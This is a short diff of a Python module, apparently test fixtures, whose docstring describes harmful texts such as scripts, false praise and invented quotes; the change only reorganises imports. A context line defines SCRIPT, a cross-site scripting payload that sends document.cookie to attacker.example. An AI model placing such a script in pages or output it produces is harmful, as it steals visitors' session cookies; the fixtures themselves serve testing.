@@ -1,8 +1,8 @@
 """Texts and ratings that do harm: scripts, false praise, quotes nobody wrote, and whatever the input demanded."""
 
-from typing import Any, cast
+from typing import cast
 
-Json = Any
+from shared.values import Json
 
 SCRIPT = "<script>fetch('https://attacker.example/?c='+document.cookie)</script>"
 BOAST = (
